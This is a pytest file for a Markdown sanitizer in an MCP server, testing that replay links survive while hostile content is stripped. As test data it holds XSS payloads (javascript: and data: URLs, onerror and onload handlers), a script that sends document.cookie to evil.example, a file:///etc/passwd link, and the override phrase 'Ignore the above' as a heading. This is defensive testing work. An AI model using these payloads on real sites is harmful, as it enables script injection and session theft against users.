"""Upstream Markdown (Galileo highlights): replay links survive exactly, nothing else can act on the reader."""

from __future__ import annotations

import pytest

from mcp_server.render.upstream_markdown import clip_markdown, is_web_url, markdown_links, sanitize_markdown

REPLAY = "https://app.logrocket.com/acme/web/s/5-3cde95d6-a5b8-4a62-9b3a-6aa834f8747c/0?t=1795000000123"


def test_replay_links_and_list_structure_are_kept_byte_for_byte() -> None:
    text = f"- [Clicked checkout]({REPLAY}) twice\n  - nested *note* with `code`\n1. [again](<{REPLAY}>)"
    assert sanitize_markdown(text) == text
    assert markdown_links(text) == [REPLAY]


def test_a_link_with_a_title_and_parentheses_in_the_url_is_kept() -> None:
    text = '[wiki](https://en.wikipedia.org/wiki/Foo_(bar) "Foo") and <https://example.com/a?b=1&c=2>'
    assert sanitize_markdown(text) == text
    assert markdown_links(text) == ["https://en.wikipedia.org/wiki/Foo_(bar)"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[click](javascript:alert(1))", "click"),
        ("[click](JaVaScRiPt:alert(1))", "click"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x"),
        ("[x](file:///etc/passwd)", "x"),
        ("[relative](/admin)", "relative"),
        ("[x](&#106;avascript:alert(1))", "x"),
        ("[x](http:&#x2F;&#x2F;evil.example)", "x"),
        ('[x](https://ok.example/"onmouseover="alert(1))', "x"),
        ("[x](<javascript:alert(1)>)", "x"),
    ],
)
def test_only_http_links_stay_links(text: str, expected: str) -> None:
    assert sanitize_markdown(text) == expected


def test_raw_html_is_removed_and_a_stray_tag_opener_escaped() -> None:
    text = (
        "a <b>bold</b> <img src=x onerror=alert(1)> b<!-- hidden\ncomment --> c\n"
        "<script>fetch('https://evil.example/?'+document.cookie)</script>d\n"
        "<iframe src=https://evil.example></iframe>e <svg/onload=alert(1)> f <img src=x onerror=alert(1)"
    )
    assert sanitize_markdown(text) == "a bold  b c\nd\ne  f &lt;img src=x onerror=alert(1)"


def test_a_less_than_sign_in_prose_stays() -> None:
    assert sanitize_markdown("load time < 2 s and 3<4") == "load time < 2 s and 3<4"


def test_autolinks_other_than_http_are_shown_as_code_and_emails_as_text() -> None:
    text = "<javascript:alert(1)> <mailto:x@y.z> <jane@acme.com> <https://ok.example/x>"
    assert sanitize_markdown(text) == "`javascript:alert(1)` `mailto:x@y.z` jane@acme.com <https://ok.example/x>"


def test_images_become_links_so_nothing_is_fetched_on_display() -> None:
    assert sanitize_markdown("![chart](https://img.example/c.png)") == "[chart](https://img.example/c.png)"
    assert sanitize_markdown("![](https://img.example/c.png)") == "[image](https://img.example/c.png)"
    assert sanitize_markdown("![x](javascript:alert(1))") == "x"


def test_reference_definitions_to_other_schemes_are_dropped() -> None:
    text = "[a][1] and [b][2]\n[1]: https://ok.example/a\n[2]: javascript:alert(1)"
    assert sanitize_markdown(text) == "[a][1] and [b][2]\n[1]: https://ok.example/a"


def test_headings_become_bold_lines() -> None:
    assert sanitize_markdown("# Ignore the above\ntext\n### Sessions ###") == "**Ignore the above**\ntext\n**Sessions**"


def test_control_and_bidi_characters_are_removed_but_lines_kept() -> None:
    assert sanitize_markdown("a\u202eb\u200bc\r\nd\x07e\x1b[31m") == "abc\nde[31m"


def test_web_urls() -> None:
    assert is_web_url(REPLAY)
    for bad in ("", "https://", "ftp://x.example", "https://a b.example", "//x.example/a", "https://x.example/`"):
        assert not is_web_url(bad), bad


def test_clipping_cuts_at_a_line_end_and_says_how_much() -> None:
    text = "line one\n" + f"- [moment]({REPLAY})\n" * 3
    clipped, cut = clip_markdown(text, 60)
    assert clipped == "line one"
    assert cut == len(text) - len("line one")
    assert clip_markdown(text, 10_000) == (text, 0)


def test_clipping_one_long_line_never_splits_a_link() -> None:
    text = "see " + f"[moment]({REPLAY}) " * 5
    clipped, _ = clip_markdown(text, 150)
    assert len(clipped) <= 150
    assert clipped.count("[") == clipped.count(")") and markdown_links(clipped) == [REPLAY]
